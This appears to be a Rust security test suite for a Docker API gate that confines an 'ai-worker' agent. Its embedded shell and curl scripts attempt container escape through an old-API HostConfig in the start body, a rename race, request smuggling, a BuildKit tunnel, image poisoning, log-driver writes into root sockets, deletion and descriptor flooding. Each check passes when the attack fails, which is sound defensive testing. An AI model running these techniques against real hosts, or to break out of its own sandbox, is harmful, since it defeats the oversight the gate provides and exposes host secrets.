//! Attacks on the API gate (adversarial review of issue 14's first part). Each check PASSES
//! WHEN THE DEFENCE HOLDS (refused, secret absent, daemon still answering); where it makes
//! sense a control shows the same request working for root or before enforcer runs.
//!
//! - `start-body-*`: dockerd 20.10 still reads a HostConfig from the body of
//!   `POST /v1.23/containers/{id}/start` (API < 1.24, kept "for backward compatibility":
//!   `ContainerStart` → `setHostConfig` replaces the container's HostConfig). The gate
//!   streams that body unjudged (`BodyJudge::Stream`), so an own container created clean is
//!   started with `Binds: ["/:/host"]`, `VolumesFrom: ["gitea"]`, or `Privileged` + `PidMode`.
//! - `rename-race`: the owner check of `VolumesFrom` is a look-up by name before the
//!   forward; the agent may rename root's containers (`docker rename` is allowed), and the
//!   window is widened at will by padding the body with named volumes (one look-up each).
//! - `upgrade-ping`: an `Upgrade` header on a non-upgrading endpoint, with a second request
//!   behind it (a raw tunnel to dockerd would serve it unjudged).
//! - `containerd-socket`: dockerd's containerd socket reached directly.
//! - `impostor-*`: the agent renames root's gitea away and creates its own `gitea`; root's
//!   next `docker exec gitea ...` runs in the agent's container.
//! - `grpc-tunnel`: `POST /grpc` with `Upgrade: h2c` is spliced to BuildKit's control API
//!   after dockerd's 101: a gRPC channel the gate does not judge (Solve requests carry their
//!   own entitlements, `network.host` among them, which dockerd grants by default).
//! - `poison-*`: the agent builds over root's image tag (`-t local/busybox`); root's next
//!   `docker run local/busybox` runs the agent's image.
//! - `log-ssrf*`: `HostConfig.LogConfig` is not judged: the syslog driver makes dockerd (root,
//!   host network namespace) connect to any unix socket or host TCP port and write the
//!   container's output there (here a root-only socket under /root).
//! - `destroy-*`: the agent removes root's gitea and its volume (no ownership on rm).
//! - `fd-flood-*`: idle/streaming gate connections held open by the agent until the
//!   daemon runs out of file descriptors (RLIMIT_NOFILE is inherited, 1024 by default).

use crate::{
    checks::Checks,
    fixtures::GITEA_SECRET,
    step::{DOCKERD_START, ENFORCER_START, GITEA_START, Step},
    suite::{Flavour, Group},
    vm,
};

const HOST_SECRET: &str = "host-root-only-s3cret";
const RULE: &str = "ai-worker-docker";
const GATE: &str = "/run/enforcer/gate/ai-worker-docker.sock";

const START_BODY_CONTROL: Step = Step::new("start-body-control");
const START_BODY_BINDS: Step = Step::new("start-body-binds");
const START_BODY_VOLUMES_FROM: Step = Step::new("start-body-volumes-from");
const START_BODY_PRIVILEGED: Step = Step::new("start-body-privileged");
const RENAME_RACE: Step = Step::new("rename-race");
const RENAME_RACE_CLI: Step = Step::new("rename-race-cli");
const UPGRADE_PING: Step = Step::new("upgrade-ping");
const CONTAINERD_SOCKET: Step = Step::new("containerd-socket");
const FD_LIMIT: Step = Step::new("fd-limit");
const FD_FLOOD_STATUS: Step = Step::new("fd-flood-status");
const FD_FLOOD_ROOT_GATE: Step = Step::new("fd-flood-root-gate");
const FD_FLOOD_AGENT: Step = Step::new("fd-flood-agent");
const FD_AFTER: Step = Step::new("fd-after");
const IMPOSTOR_PLANT: Step = Step::new("impostor-plant");
const IMPOSTOR_ROOT_EXEC: Step = Step::new("impostor-root-exec");
const GRPC_TUNNEL: Step = Step::new("grpc-tunnel");
const POISON_BUILD: Step = Step::new("poison-build");
const POISON_ROOT_RUN: Step = Step::new("poison-root-run");
const LOG_SSRF: Step = Step::new("log-ssrf");
const LOG_SSRF_RECEIVED: Step = Step::new("log-ssrf-received");
const DESTROY_GITEA: Step = Step::new("destroy-gitea");
const DESTROY_CHECK: Step = Step::new("destroy-check");

pub(super) fn group() -> Group {
    Group {
        name: "api-gate-attacks",
        script: script(),
        files: vec![],
        lsm: vm::DEFAULT_LSM,
        flavour: Flavour::RealDaemon,
        disk_files: vec![],
        check,
    }
}

/// The api-gate group's rule with `api_clients = "any"` (curl, socat, raw HTTP).
fn policy() -> String {
    format!(
        r#"[[rule]]
name = "{RULE}"
users = ["ai-worker"]
deny = ["exec", "cp", "commit", "diff", "export", "import", "load", "save", "attach", "push", "tag",
        "system dial-stdio", "compose watch", "checkpoint create"]
api_gate = true
api_clients = "any"
"#
    )
}

/// The scripts the steps run (plain text: `@GATE@` and `@SOCK@` are replaced).
const START_BODY: &str = r#"#!/bin/sh
# start-body NAME CMD HOSTCONFIG-JSON SOCKET: create NAME clean, start it with a HostConfig
# in the body of an API 1.23 start, print its logs.
name=$1; cmd=$2; hc=$3; sock=$4
c() { curl -sS --unix-socket "$sock" "$@"; }
c -H 'Content-Type: application/json' \
  -d "{\"Image\":\"local/busybox\",\"Cmd\":[\"sh\",\"-c\",\"$cmd\"],\"HostConfig\":{\"NetworkMode\":\"none\"}}" \
  "http://d/v1.41/containers/create?name=$name"; echo
c -X POST -H 'Content-Type: application/json' -d "$hc" "http://d/v1.23/containers/$name/start"; echo
sleep 2
c "http://d/v1.41/containers/$name/logs?stdout=1&stderr=1" | tr -d '\000\001\002'; echo
c "http://d/v1.41/containers/$name/json" | tr ',' '\n' | grep -E '"(Privileged|PidMode|Binds|VolumesFrom)"'
"#;

const RACE: &str = r#"#!/bin/sh
# The owner check of VolumesFrom is by name; the agent renames gitea to the name it checked.
c() { curl -sS --unix-socket @GATE@ "$@"; }
c -H 'Content-Type: application/json' -d '{"Image":"local/busybox","Cmd":["true"],"HostConfig":{"NetworkMode":"none"}}' 'http://d/v1.41/containers/create?name=racer'; echo
# 600 new named volumes after the container: one look-up each, after the container's.
pad=$(i=1; while [ $i -le 600 ]; do printf '"pv%d:/p%d",' $i $i; i=$((i+1)); done)
pad=${pad%,}
printf '{"Image":"local/busybox","Cmd":["cat","/data/secret"],"HostConfig":{"NetworkMode":"none","VolumesFrom":["racer"],"Binds":[%s]}}' "$pad" > /tmp/race-$$.json
t0=$(date +%s.%N)
c -H 'Content-Type: application/json' --data-binary @/tmp/race-$$.json 'http://d/v1.41/containers/create?name=race-out' > /tmp/race-$$.out 2>&1 &
bg=$!
sleep 0.3
c -X POST 'http://d/v1.41/containers/racer/rename?name=racer-old'
c -X POST 'http://d/v1.41/containers/gitea/rename?name=racer'
wait $bg
t1=$(date +%s.%N)
echo "create took $t0 .. $t1:"; cat /tmp/race-$$.out; echo
# Put gitea's name back.
c -X POST 'http://d/v1.41/containers/racer/rename?name=gitea'
c -X POST 'http://d/v1.41/containers/race-out/start'; echo
sleep 2
echo "logs:"; c 'http://d/v1.41/containers/race-out/logs?stdout=1&stderr=1' | tr -d '\000\001\002'; echo
"#;

const RACE_CLI: &str = r#"#!/bin/sh
# The same race with nothing but the docker CLI (a vetted client: works under the default
# api_clients = "vetted" too).
export DOCKER_HOST=unix://@GATE@
docker create --name racer2 --network none local/busybox true
pad=$(i=1; while [ $i -le 600 ]; do printf -- '-v qv%d:/q%d ' $i $i; i=$((i+1)); done)
docker create --name race-out2 --network none --volumes-from racer2 $pad local/busybox cat /data/secret &
bg=$!
sleep 0.5
docker rename racer2 racer2-old
docker rename gitea racer2
wait $bg
docker rename racer2 gitea
docker start race-out2
sleep 2
echo "logs:"; docker logs race-out2
"#;

const UPGRADE: &str = r#"#!/bin/sh
printf 'GET /_ping HTTP/1.1\r\nHost: d\r\nConnection: Upgrade\r\nUpgrade: tcp\r\n\r\nPOST /v1.41/containers/gitea/exec HTTP/1.1\r\nHost: d\r\nContent-Type: application/json\r\nContent-Length: 20\r\n\r\n{"Cmd":["true"]}    ' | socat -t 3 - UNIX-CONNECT:@GATE@
"#;

const IMPOSTOR: &str = r#"#!/bin/sh
c() { curl -sS --unix-socket @GATE@ "$@"; }
c -X POST 'http://d/v1.41/containers/gitea/rename?name=gitea-real'; echo
c -H 'Content-Type: application/json' -d '{"Image":"local/busybox","Cmd":["sh","-c","mkdir -p /data; echo impostor-not-gitea > /data/secret; exec sleep 1000"],"HostConfig":{"NetworkMode":"none"}}' 'http://d/v1.41/containers/create?name=gitea'; echo
c -X POST 'http://d/v1.41/containers/gitea/start'; echo
sleep 1
"#;

const GRPC: &str = r"#!/bin/sh
printf 'POST /grpc HTTP/1.1\r\nHost: d\r\nConnection: Upgrade\r\nUpgrade: h2c\r\nContent-Length: 0\r\n\r\nPRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\000\000\000\004\000\000\000\000\000' | socat -t 2 - UNIX-CONNECT:@GATE@ | head -c 200
";

const FLOOD: &str = r#"#!/bin/sh
# Hold 4 x 300 streaming gate connections (GET /events: two descriptors each in the daemon)
# for 20 seconds, then let them go.
pids=
for n in 1 2 3 4; do
  curl -s --parallel --parallel-immediate --parallel-max 300 --unix-socket @GATE@ "http://d/v1.41/events?x=[1-300]" -o /dev/null >/dev/null 2>&1 &
  pids="$pids $!"
done
sleep 20
kill $pids
"#;

pub(super) fn script() -> String {
    let policy = policy();
    let body = format!(
        r#"
start_dockerd
mkdir -p /root && chmod 700 /root && echo {HOST_SECRET} > /root/host-secret && chmod 600 /root/host-secret
cat > /tmp/start-body.sh <<'EOF'
@START_BODY@EOF
cat > /tmp/race.sh <<'EOF'
@RACE@EOF
cat > /tmp/race-cli.sh <<'EOF'
@RACE_CLI@EOF
cat > /tmp/upgrade.sh <<'EOF'
@UPGRADE@EOF
cat > /tmp/flood.sh <<'EOF'
@FLOOD@EOF
cat > /tmp/impostor.sh <<'EOF'
@IMPOSTOR@EOF
cat > /tmp/grpc.sh <<'EOF'
@GRPC@EOF
chmod 755 /tmp/*.sh
# Control: root on the real socket, same requests.
step {START_BODY_CONTROL} root sh /tmp/start-body.sh ctl 'cat /host/root/host-secret' '{{"Binds":["/:/host"],"NetworkMode":"none"}}' /run/docker.sock
cat > /tmp/gate.toml <<'EOF'
{policy}EOF
start_enforcer --config /tmp/gate.toml
step {START_BODY_BINDS} ai-worker sh /tmp/start-body.sh sb1 'cat /host/root/host-secret' '{{"Binds":["/:/host"],"NetworkMode":"none"}}' {GATE}
step {START_BODY_VOLUMES_FROM} ai-worker sh /tmp/start-body.sh sb2 'cat /data/secret' '{{"VolumesFrom":["gitea"],"NetworkMode":"none"}}' {GATE}
step {START_BODY_PRIVILEGED} ai-worker sh /tmp/start-body.sh sb3 'cat /proc/1/root/root/host-secret' '{{"Privileged":true,"PidMode":"host","NetworkMode":"none"}}' {GATE}
step {RENAME_RACE} ai-worker sh /tmp/race.sh
/usr/bin/docker rename racer gitea >/dev/null 2>&1
step {RENAME_RACE_CLI} ai-worker sh /tmp/race-cli.sh
/usr/bin/docker rename racer2 gitea >/dev/null 2>&1
step {UPGRADE_PING} ai-worker sh /tmp/upgrade.sh
step {GRPC_TUNNEL} ai-worker sh /tmp/grpc.sh
step {IMPOSTOR_PLANT} ai-worker sh /tmp/impostor.sh
step {IMPOSTOR_ROOT_EXEC} root /usr/bin/docker exec gitea cat /data/secret
# Put root's gitea back only if the impostor got in (then "gitea" is the agent's).
if /usr/bin/docker inspect gitea-real >/dev/null 2>&1; then
    /usr/bin/docker rm -f gitea >/dev/null 2>&1; /usr/bin/docker rename gitea-real gitea >/dev/null 2>&1
fi
step {CONTAINERD_SOCKET} ai-worker sh -c 'ls -la /run/docker /run/containerd 2>&1; curl -sS -m 3 --unix-socket /run/docker/containerd/containerd.sock http://d/ 2>&1; curl -sS -m 3 --unix-socket /run/containerd/containerd.sock http://d/ 2>&1'
step {FD_LIMIT} root sh -c "grep 'open files' /proc/$ENFORCER_PID/limits; ls /proc/$ENFORCER_PID/fd | wc -l"
as ai-worker sh /tmp/flood.sh >/dev/null 2>&1 &
FLOOD_PID=$!
sleep 10
ls /proc/$ENFORCER_PID/fd | wc -l > /tmp/fd-count
step {FD_FLOOD_STATUS} root sh -c 'cat /tmp/fd-count; timeout 5 /usr/local/sbin/enforcer status'
step {FD_FLOOD_ROOT_GATE} root curl -sS -m 5 --unix-socket {GATE} http://d/_ping
step {FD_FLOOD_AGENT} ai-worker env DOCKER_HOST=unix://{GATE} timeout 10 docker ps --format '{{{{.Names}}}}'
wait $FLOOD_PID
sleep 2
step {FD_AFTER} root sh -c "ls /proc/$ENFORCER_PID/fd | wc -l; timeout 5 /usr/local/sbin/enforcer status >/dev/null && echo status-ok"
mkdir -p /tmp/poison && printf 'FROM local/busybox\nRUN echo poisoned-by-agent > /poisoned\n' > /tmp/poison/Dockerfile && chmod -R a+rX /tmp/poison
step {POISON_BUILD} ai-worker env DOCKER_HOST=unix://{GATE} docker build -q -t local/busybox /tmp/poison
step {POISON_ROOT_RUN} root /usr/bin/docker run --rm --network none local/busybox sh -c 'cat /poisoned 2>/dev/null || echo clean'
socat -u UNIX-LISTEN:/root/priv.sock OPEN:/tmp/priv.out,creat >/dev/null 2>&1 &
LISTEN_PID=$!
sleep 0.5
step {LOG_SSRF} ai-worker curl -sS --unix-socket {GATE} -H 'Content-Type: application/json' -d '{{"Image":"local/busybox","Cmd":["echo","agent-bytes-in-root-socket"],"HostConfig":{{"NetworkMode":"none","LogConfig":{{"Type":"syslog","Config":{{"syslog-address":"unix:///root/priv.sock"}}}}}}}}' 'http://d/v1.41/containers/create?name=logssrf'
as ai-worker curl -sS -X POST --unix-socket {GATE} http://d/v1.41/containers/logssrf/start >/dev/null 2>&1
sleep 2
kill $LISTEN_PID 2>/dev/null
step {LOG_SSRF_RECEIVED} root cat /tmp/priv.out
step {DESTROY_GITEA} ai-worker sh -c 'DOCKER_HOST=unix://{GATE} docker rm -f gitea; DOCKER_HOST=unix://{GATE} docker volume rm gitea-data'
step {DESTROY_CHECK} root sh -c '/usr/bin/docker ps -a --format "{{{{.Names}}}}"; /usr/bin/docker volume ls -q'
report_file enforcer-log /tmp/enforcer.log
/usr/local/sbin/enforcer stop >/dev/null 2>&1
stop_dockerd
"#
    );
    body.replace("@START_BODY@", START_BODY)
        .replace("@RACE_CLI@", RACE_CLI)
        .replace("@RACE@", RACE)
        .replace("@UPGRADE@", UPGRADE)
        .replace("@FLOOD@", FLOOD)
        .replace("@IMPOSTOR@", IMPOSTOR)
        .replace("@GRPC@", GRPC)
        .replace("@GATE@", GATE)
}

pub(super) fn check(c: &mut Checks) {
    let (rc, out) = c.step(DOCKERD_START);
    c.check("the real dockerd answers", rc == 0, || format!("exit {rc}: {out}"));
    c.succeeded(GITEA_START);
    let (rc, out) = c.step(START_BODY_CONTROL);
    c.check(
        "control: on the real socket, a HostConfig in an API 1.23 start body binds / (dockerd 20.10 reads it)",
        out.contains(HOST_SECRET),
        || format!("exit {rc}: {out}"),
    );
    c.succeeded(ENFORCER_START);
    for (step, secret, what) in [
        (START_BODY_BINDS, HOST_SECRET, "Binds / in the body of POST /v1.23/containers/{own}/start"),
        (START_BODY_VOLUMES_FROM, GITEA_SECRET, "VolumesFrom gitea in the body of a 1.23 start"),
        (START_BODY_PRIVILEGED, HOST_SECRET, "Privileged + PidMode host in the body of a 1.23 start"),
    ] {
        let (rc, out) = c.step(step);
        c.check(format!("through the gate, {what} is refused"), !out.contains(secret), || {
            format!("exit {rc}: {out}")
        });
    }
    let (rc, out) = c.step(RENAME_RACE);
    c.check(
        "VolumesFrom an own container that gitea is renamed to after the owner check: no secret",
        !out.contains(GITEA_SECRET),
        || format!("exit {rc}: {out}"),
    );
    let (rc, out) = c.step(RENAME_RACE_CLI);
    c.check(
        "the same race with the docker CLI only (vetted client): no secret",
        !out.contains(GITEA_SECRET),
        || format!("exit {rc}: {out}"),
    );
    let (_, out) = c.step(UPGRADE_PING);
    c.check(
        "an Upgrade header on /_ping opens no tunnel: the exec behind it is judged and refused",
        !out.contains("\"Id\"") && (out.contains("container exec") || out.matches("HTTP/1.1 ").count() == 1),
        || out.clone(),
    );
    let (_, out) = c.step(CONTAINERD_SOCKET);
    c.check(
        "the agent cannot reach containerd's sockets",
        out.matches("Permission denied").count()
            + out.matches("No such file").count()
            + out.matches("Couldn't connect").count()
            >= 2
            && !out.contains("HTTP"),
        || out.clone(),
    );
    let (_, out) = c.step(GRPC_TUNNEL);
    c.check(
        "POST /grpc (h2c) is not spliced unjudged to BuildKit's control API",
        !out.contains("HTTP/1.1 101"),
        || out.clone(),
    );
    c.succeeded(IMPOSTOR_PLANT);
    let (rc, out) = c.step(IMPOSTOR_ROOT_EXEC);
    c.check(
        "root's docker exec gitea reaches root's gitea, not an impostor the agent renamed into place",
        rc == 0 && out.contains(GITEA_SECRET),
        || format!("exit {rc}: {out}"),
    );
    let (_, limit) = c.step(FD_LIMIT);
    let (rc, out) = c.step(FD_FLOOD_STATUS);
    c.check(
        "while the agent holds 1200 gate connections, root's enforcer status still answers",
        rc == 0,
        || format!("limits: {limit}\nexit {rc}: {out}"),
    );
    let (rc, out) = c.step(FD_FLOOD_ROOT_GATE);
    c.check("while flooded, the gate still answers root", rc == 0 && out.contains("OK"), || {
        format!("exit {rc}: {out}")
    });
    let (rc, out) = c.step(FD_FLOOD_AGENT);
    // The flood costs its sender only: past its uid's share of the gate's connections, the
    // agent's own next connection is closed, while root's (above) is served.
    c.check(
        "while the agent floods, its own further connections are closed (its share is used up)",
        rc != 0 && !out.contains("gitea"),
        || format!("exit {rc}: {out}"),
    );
    c.step(POISON_BUILD);
    let (rc, out) = c.step(POISON_ROOT_RUN);
    c.check(
        "root's local/busybox is still root's image after the agent's build -t local/busybox",
        !out.contains("poisoned-by-agent"),
        || format!("exit {rc}: {out}"),
    );
    let (_, created) = c.step(LOG_SSRF);
    let (rc, out) = c.step(LOG_SSRF_RECEIVED);
    c.check(
        "a container's LogConfig cannot make dockerd write into a root-only unix socket",
        !out.contains("agent-bytes-in-root-socket"),
        || format!("create: {created}\nexit {rc}: {out}"),
    );
    let (rc, out) = c.step(DESTROY_GITEA);
    let (_, after) = c.step(DESTROY_CHECK);
    c.check(
        "the agent cannot remove root's gitea and its volume",
        after.lines().any(|l| l == "gitea") && after.lines().any(|l| l == "gitea-data"),
        || format!("exit {rc}: {out}\nafter: {after}"),
    );
    let (rc, out) = c.step(FD_AFTER);
    c.check("after the flood, the daemon recovers", rc == 0 && out.contains("status-ok"), || {
        format!("exit {rc}: {out}")
    });
}
